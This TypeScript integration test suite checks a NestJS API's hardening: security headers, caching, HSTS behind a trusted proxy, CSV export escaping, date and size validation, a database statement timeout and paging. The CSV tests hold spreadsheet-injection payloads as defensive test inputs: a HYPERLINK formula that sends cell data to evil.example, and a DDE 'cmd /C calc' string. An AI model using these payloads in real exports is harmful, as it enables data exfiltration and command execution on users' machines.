import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { INestApplication } from '@nestjs/common';
import { DataSource } from 'typeorm';
import { createApi } from '../../apps/api/src/bootstrap.js';
import { createDataSource } from '../../libs/persistence/src/data-source.js';
import { databaseUrl } from '../support/env.js';
import { TestSystem } from '../support/system.js';

/**
 * HTTP hardening and bad input on the running system: security headers on every answer (JSON, errors, the
 * web app), no caching of API answers, HSTS only over TLS, CSV exports that a spreadsheet cannot run,
 * refusals (never a 500) for out-of-range years and dates, oversized bodies and bad export parameters — each
 * writing nothing — the database's statement timeout, and paged lists.
 */
const webDir = fs.mkdtempSync(path.join(os.tmpdir(), 'ketnap-web-'));
fs.writeFileSync(path.join(webDir, 'index.html'), '<!doctype html><title>ketnap</title>');
const sys = new TestSystem();
let base: string;

beforeAll(async () => {
  await sys.start({ KETNAP_WEB_DIR: webDir, KETNAP_TRUST_PROXY: 'loopback', KETNAP_DB_STATEMENT_TIMEOUT_MS: '12345' });
  base = sys.anon.baseUrl;
});

afterAll(async () => {
  await sys.stop();
  fs.rmSync(webDir, { recursive: true, force: true });
});

async function raw(p: string, init: RequestInit & { token?: string } = {}) {
  const { token, ...rest } = init;
  const res = await fetch(`${base}${p}`, { ...rest, headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...(rest.headers as Record<string, string>) } });
  return { status: res.status, headers: res.headers, text: Buffer.from(await res.arrayBuffer()).toString('utf8') };
}

async function count(table: string): Promise<number> {
  return (await sys.app.get(DataSource).query(`SELECT count(*)::int AS n FROM ${table}`))[0].n;
}

const WEB_CSP =
  "default-src 'self';script-src 'self';style-src 'self' 'unsafe-inline';img-src 'self' data: blob:;connect-src 'self';object-src 'none';frame-ancestors 'none';base-uri 'self';form-action 'self'";

describe('security headers', () => {
  function expectHardened(h: Headers) {
    expect(h.get('content-security-policy')).toBe(WEB_CSP);
    expect(h.get('x-content-type-options')).toBe('nosniff');
    expect(h.get('x-frame-options')).toBe('DENY');
    expect(h.get('referrer-policy')).toBe('same-origin');
    expect(h.get('cross-origin-opener-policy')).toBe('same-origin');
    expect(h.get('cross-origin-resource-policy')).toBe('same-origin');
    expect(h.get('x-powered-by')).toBeNull();
    expect(h.get('strict-transport-security')).toBeNull(); // plain HTTP
  }

  it('are on a JSON answer, a 401, a 404 and a 413, with no-store on every API answer', async () => {
    const answers = await Promise.all([
      raw('/api/tasks', { token: sys.users.secretary.token }),
      raw('/api/tasks'),
      raw('/api/no-such-route', { token: sys.users.secretary.token }),
      raw('/api/org-units', { method: 'POST', token: sys.admin.token, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'x'.repeat(1_100_000) }) }),
    ]);
    expect(answers.map((a) => a.status)).toEqual([200, 401, 404, 413]);
    for (const a of answers) {
      expectHardened(a.headers);
      expect(a.headers.get('cache-control')).toBe('no-store');
      expect(a.headers.get('content-type')).toMatch(/^application\/json/);
    }
  });

  it('are on the web app, which keeps its own caching', async () => {
    const page = await raw('/');
    expect(page.status).toBe(200);
    expect(page.text).toContain('<title>ketnap</title>');
    expectHardened(page.headers);
    expect(page.headers.get('cache-control')).toBe('no-cache');
  });

  it('add Strict-Transport-Security only to a request that came over TLS, as told by a trusted proxy', async () => {
    const viaProxy = await raw('/api/clock', { headers: { 'x-forwarded-proto': 'https' } });
    expect(viaProxy.headers.get('strict-transport-security')).toBe('max-age=31536000; includeSubDomains');
    expect((await raw('/api/clock')).headers.get('strict-transport-security')).toBeNull();

    // Without KETNAP_TRUST_PROXY, anyone could send the header: it is ignored.
    const untrusting: INestApplication = await createApi({ ...sys.config, trustProxy: false }, { logger: ['error'] });
    await untrusting.listen(0, '127.0.0.1');
    try {
      const res = await fetch(`http://127.0.0.1:${untrusting.getHttpServer().address().port}/api/clock`, { headers: { 'x-forwarded-proto': 'https' } });
      expect(res.status).toBe(200);
      expect(res.headers.get('strict-transport-security')).toBeNull();
    } finally {
      await untrusting.close();
    }
  });
});

describe('CSV exports and spreadsheet formulas', () => {
  const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
  const QUOTED = `"'${HOSTILE.replace(/"/g, '""')}"`;

  it('write a candidate name that is a formula as text in the audit history CSV', async () => {
    const id = await sys.newCandidate(sys.users.secretary, HOSTILE);
    const today = await sys.today();
    const csv = await raw(`/api/audit/history.csv?orgUnitId=${sys.units.province}&from=${today}&to=${today}`, { token: sys.users.auditor.token });
    expect(csv.status).toBe(200);
    const line = csv.text.split('\r\n').find((l) => l.includes(id) && l.includes('candidate_created'));
    expect(line).toBeDefined();
    expect(line!.split(',')[2]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1`);
    expect(line).toContain(QUOTED);
    expect(csv.text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('write a place name that is a formula as text in a report CSV', async () => {
    const created = await sys.admin.post('/api/places', { name: '@SUM(1+1)*cmd|" /C calc"!A0', kind: 'village', orgUnitId: sys.units.cell, partyMembers: 0, hasCell: false });
    expect(created.status).toBe(201);
    const csv = await raw(`/api/reports/places?orgUnitId=${sys.units.cell}&format=csv`, { token: sys.admin.token, headers: { 'accept-language': 'en' } });
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0","village",0,`);
  });
});

describe('bad input is refused in the caller’s language and writes nothing', () => {
  it('refuses calendar years the calendar does not cover (GET and PUT)', async () => {
    for (const y of ['3000', '1899', '0', '99999999']) {
      const r = await sys.admin.get(`/api/calendar/${y}`);
      expect(r.status).toBe(400);
      expect(r.body).toEqual({ statusCode: 400, code: 'year_out_of_range', message: `Năm ${Number(y)} nằm ngoài khoảng được hỗ trợ (1900–2199)` });
    }
    expect((await sys.admin.get('/api/calendar/3000', { 'accept-language': 'en' })).body.message).toBe('Year 3000 is outside the supported range (1900–2199)');
    expect((await sys.admin.get('/api/calendar/abc')).body.code).toBe('invalid_field');
    expect((await sys.admin.get('/api/calendar/2199')).status).toBe(200);
    const versions = await count('calendar_years');
    const put = await sys.admin.call('PUT', '/api/calendar/3000', { source: 'Quyết định giả', holidays: [] });
    expect(put.body).toMatchObject({ statusCode: 400, code: 'year_out_of_range' });
    expect(await count('calendar_years')).toBe(versions);
  });

  it('refuses year 0 and absurd years in date fields, naming the field', async () => {
    const before = await count('candidates');
    const today = await sys.today();
    const body = (dateOfBirth: string) => ({
      cellId: sys.units.cell,
      fullName: 'Ngày Sinh Sai',
      dateOfBirth,
      gender: 'female',
      ethnicity: 'Kinh',
      education: 'university',
      youthUnionMember: true,
      source: { organization: 'Đoàn trường', introducedOn: today },
    });
    for (const d of ['0000-01-01', '0001-01-01', '9999-12-31', '2200-01-01']) {
      const r = await sys.users.secretary.post('/api/candidates', body(d));
      expect(r.status).toBe(400);
      expect(r.body).toMatchObject({ code: 'date_out_of_range', message: 'Trường "dateOfBirth" phải là ngày trong khoảng 1900-01-01 đến 2199-12-31' });
    }
    const en = await sys.users.secretary.post('/api/candidates', { ...body('2000-01-01'), source: { organization: 'x', introducedOn: '0000-12-31' } }, { 'accept-language': 'en' });
    expect(en.body).toMatchObject({ statusCode: 400, code: 'date_out_of_range', message: 'Field "source.introducedOn" must be a date between 1900-01-01 and 2199-12-31' });
    expect(await count('candidates')).toBe(before);

    // A decision date: refused by the same rule before it reaches the workflow's history.
    const id = await sys.newCandidate(sys.users.secretary);
    const history = (await sys.users.secretary.get(`/api/candidates/${id}/history`)).body.events.length;
    const r = await sys.decide(sys.users.secretary, id, 'recognize_sympathiser', { data: { meetingDate: '0000-01-01', mentor: { fullName: 'Trần Thị Bình' } } }, { 'accept-language': 'en' });
    expect(r.status).toBe(400);
    expect(r.body).toMatchObject({ code: 'date_out_of_range', message: 'Field "meetingDate" must be a date between 1900-01-01 and 2199-12-31' });
    expect((await sys.users.secretary.get(`/api/candidates/${id}/history`)).body.events).toHaveLength(history);

    for (const q of ['asOf=0000-01-01', 'asOf=9999-01-01']) expect((await sys.users.secretary.get(`/api/candidates/${id}/state?${q}`)).body.code).toBe('date_out_of_range');
    expect((await sys.admin.get(`/api/reports/admissions?orgUnitId=${sys.units.cell}&from=0000-01-01`)).body.code).toBe('date_out_of_range');
  });

  it('answers a body over 1 MB with 413 payload_too_large', async () => {
    const before = await count('org_units');
    const big = { name: 'x'.repeat(1_100_000), kind: 'cell', parentId: sys.units.grassroots };
    const vi = await sys.admin.post('/api/org-units', big);
    expect(vi).toEqual({ status: 413, body: { statusCode: 413, code: 'payload_too_large', message: 'Nội dung yêu cầu vượt quá giới hạn 1 MB' } });
    const en = await sys.admin.post('/api/org-units', big, { 'accept-language': 'en' });
    expect(en.body.message).toBe('The request body is larger than the 1 MB limit');
    expect(await count('org_units')).toBe(before);
  });

  it('labels other framework errors by their status: malformed JSON is a 400, a wrong content type a 4xx, not "internal"', async () => {
    const malformed = await raw('/api/org-units', { method: 'POST', token: sys.admin.token, headers: { 'content-type': 'application/json' }, body: '{"name": ' });
    expect(malformed.status).toBe(400);
    expect(JSON.parse(malformed.text).code).toBe('invalid_field');
    const charset = await raw('/api/org-units', { method: 'POST', token: sys.admin.token, headers: { 'content-type': 'application/json; charset=klingon' }, body: '{}' });
    expect(charset.status).toBe(415);
    expect(JSON.parse(charset.text)).toMatchObject({ statusCode: 415, code: 'unsupported_media_type' });
  });

  it('validates the history export before it starts streaming: a JSON 4xx, never a CSV cut short', async () => {
    const token = sys.users.auditor.token;
    const bad = [
      [`orgUnitId=not-a-uuid&from=2026-01-01&to=2026-01-31`, 400, 'invalid_field'],
      [`orgUnitId=${sys.units.province}&from=0000-01-01&to=2026-01-31`, 400, 'date_out_of_range'],
      [`orgUnitId=${sys.units.province}&from=2026-01-01&to=9999-12-31`, 400, 'date_out_of_range'],
      [`orgUnitId=${sys.units.province}&from=2026-13-01&to=2026-01-31`, 400, 'invalid_date'],
      [`orgUnitId=${sys.units.province}&from=2026-02-01&to=2026-01-31`, 400, 'report_period_invalid'],
      [`orgUnitId=${sys.units.province}`, 400, 'missing_field'],
    ] as const;
    const reads = await count('pii_reads');
    for (const [q, status, code] of bad) {
      const r = await raw(`/api/audit/history.csv?${q}`, { token, headers: { 'accept-language': 'en' } });
      expect([q, r.status, r.headers.get('content-type')]).toEqual([q, status, expect.stringMatching(/^application\/json/)]);
      expect(JSON.parse(r.text)).toMatchObject({ statusCode: status, code });
    }
    expect(await count('pii_reads')).toBe(reads);
  });
});

describe('database statement timeout', () => {
  it('is set on the app’s connections from KETNAP_DB_STATEMENT_TIMEOUT_MS', async () => {
    const ds = sys.app.get(DataSource);
    // Every connection of the pool: ask on several at once.
    const answers = await Promise.all(Array.from({ length: 4 }, () => ds.query(`SELECT current_setting('statement_timeout') AS t, pg_sleep(0.05)`)));
    expect(answers.map((a) => a[0].t)).toEqual(Array(4).fill('12345ms'));
    expect((await ds.query('SHOW statement_timeout'))[0].statement_timeout).toBe('12345ms');
  });

  it('cancels a statement that runs longer (a data source made the same way, with a short limit)', async () => {
    const ds = await createDataSource(databaseUrl(), { poolSize: 1, statementTimeoutMs: 300 }).initialize();
    try {
      await expect(ds.query(`SELECT pg_sleep(3)`)).rejects.toThrow(/statement timeout/);
      expect((await ds.query(`SELECT 1 AS one`))[0].one).toBe(1); // the connection is still usable
    } finally {
      await ds.destroy();
    }
  });
});

describe('paged lists', () => {
  it('pages the org units, with the total', async () => {
    const all = (await sys.admin.get('/api/org-units?limit=1000')).body;
    expect(all.total).toBeGreaterThanOrEqual(8);
    const page = (await sys.admin.get('/api/org-units?limit=2&offset=1')).body;
    expect(page).toEqual({ items: all.items.slice(1, 3), total: all.total });
    const children = (await sys.admin.get(`/api/org-units?parentId=${sys.units.grassroots}`)).body;
    expect(children.items.map((u: any) => u.id)).toContain(sys.units.cell);
    expect(children.items.every((u: any) => u.parentId === sys.units.grassroots)).toBe(true);
    for (const q of ['limit=0', 'limit=1001', 'offset=-1', 'limit=abc', 'parentId=x']) expect((await sys.admin.get(`/api/org-units?${q}`)).status).toBe(400);
  });

  it('pages the places of a unit', async () => {
    for (const name of ['Thôn Một', 'Thôn Hai']) expect((await sys.admin.post('/api/places', { name: `${name} ${sys.tag}`, kind: 'village', orgUnitId: sys.units.grassroots })).status).toBe(201);
    const all = (await sys.admin.get(`/api/places?orgUnitId=${sys.units.grassroots}`)).body;
    expect(all.total).toBe(all.items.length);
    expect(all.total).toBeGreaterThanOrEqual(2);
    const second = (await sys.admin.get(`/api/places?orgUnitId=${sys.units.grassroots}&limit=1&offset=1`)).body;
    expect(second).toEqual({ items: [all.items[1]], total: all.total });
    expect((await sys.admin.get(`/api/places?orgUnitId=${sys.units.grassroots}&limit=501`)).status).toBe(400);
  });

  it('verifies the audit chain a page of candidates at a time, with the next offset', async () => {
    await sys.newCandidate(sys.users.secretary, 'Trang Hai');
    const whole = (await sys.users.auditor.get(`/api/audit/verify?orgUnitId=${sys.units.cell}&limit=1000`)).body;
    expect(whole).toMatchObject({ ok: true, offset: 0, limit: 1000 });
    expect(whole.next).toBeUndefined();
    expect(whole.candidates).toBeGreaterThanOrEqual(3);
    let checked = 0;
    let pages = 0;
    for (let offset: number | undefined = 0; offset !== undefined; pages += 1) {
      const r: any = (await sys.users.auditor.get(`/api/audit/verify?orgUnitId=${sys.units.cell}&limit=1&offset=${offset}`)).body;
      expect(r).toMatchObject({ ok: true, candidates: whole.candidates, limit: 1, offset });
      checked += r.checked;
      offset = r.next;
    }
    expect(pages).toBe(whole.candidates);
    expect(checked).toBe(whole.checked);
    expect((await sys.users.auditor.get(`/api/audit/verify?orgUnitId=${sys.units.cell}&limit=1001`)).status).toBe(400);
  });
});
